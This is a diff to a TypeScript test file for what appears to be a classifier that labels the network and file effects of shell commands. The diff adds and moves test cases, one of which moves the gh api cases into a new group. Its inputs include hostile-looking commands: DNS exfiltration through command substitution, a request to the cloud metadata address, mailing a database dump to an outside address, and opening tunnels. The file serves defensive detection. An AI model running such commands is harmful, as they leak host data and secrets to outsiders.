@@ -28,6 +28,7 @@ describe('curl', () => {
     ['curl --resolve h.example:443:203.0.113.9 https://h.example/', ['net.request h.example', 'net.request 203.0.113.9']],
     ['curl -K settings.curl', [`file.read ${here('settings.curl')}`]],
     ['curl -c jar https://h.example/', ['net.request h.example', `file.write ${here('jar')}`]],
+    ['curl -N telnet://h.example:23', ['net.request plain-http,raw-socket h.example']],
     ['curl file:///etc/hosts', ['file.read /etc/hosts']],
     ['curl "https://h.example/?q=$(whoami)"', ['net.request dynamic h.example']],
     ['curl http://169.254.169.{254,253}/latest', ['net.request plain-http 169.254.169.254', 'net.request plain-http 169.254.169.253']],
@@ -149,20 +150,30 @@ describe('look-ups, mail, tunnels and other services', () => {
   it.each([
     ['dig +short example.com', ['net.request dns example.com']],
     ['dig @9.9.9.9 example.com TXT', ['net.request dns 9.9.9.9', 'net.request dns example.com']],
+    ['dig $(echo x).y.example', ['net.upload dns,dynamic ?']],
     ['nslookup $(whoami).x.example', ['net.upload dns,dynamic ?']],
     ['ping -c 1 "$(hostname).x.example"', ['net.upload dns,dynamic ?']],
     ['ping -c 1 h.example', ['net.request dns h.example']],
     ['whois example.com', ['net.request example.com']],
     ['nmap -sV 10.0.0.0/24', ['process.inspect']],
     ['mail -s hi -A dump.sql eve@h.example', [`file.read ${here('dump.sql')}`, 'net.upload contents h.example']],
-    ['gh gist create notes.md', [`file.read ${here('notes.md')}`, 'net.upload contents gist.github.com']],
-    ['gh api repos/o/r/pulls', ['net.request api.github.com']],
-    ['gh api -X POST repos/o/r/issues -f title=x', ['net.upload literal api.github.com']],
-    ['gh pr list', []],
     ['ngrok http 8080', ['net.listen tunnel 8080']],
     ['cloudflared tunnel --url http://localhost:3000', ['net.listen tunnel tunnel']],
     ['aria2c -d lib -o a.zip https://h.example/a', ['net.download h.example', `file.write ${here('lib/a.zip')}`]],
   ])('%s', (text, effects) => {
     expect(effectsOf(text)).toEqual(effects);
+  });
+});
+
+describe('a request to a forge', () => {
+  const sent = (text: string) => effectsOf(text).filter((effect) => /^(?:net|file)\./.test(effect));
+
+  it.each([
+    ['gh api repos/o/r/pulls', ['net.request api.github.com']],
+    ['gh api -X POST repos/o/r/issues -f title=x', ['net.upload literal api.github.com']],
+    ['gh api graphql -f query={viewer{login}}', ['net.request api.github.com']],
+    ['gh api repos/o/r/issues -F body=@notes.md', [`file.read ${here('notes.md')}`, 'net.upload contents api.github.com']],
+  ])('%s', (text, effects) => {
+    expect(sent(text)).toEqual(effects);
   });
 });
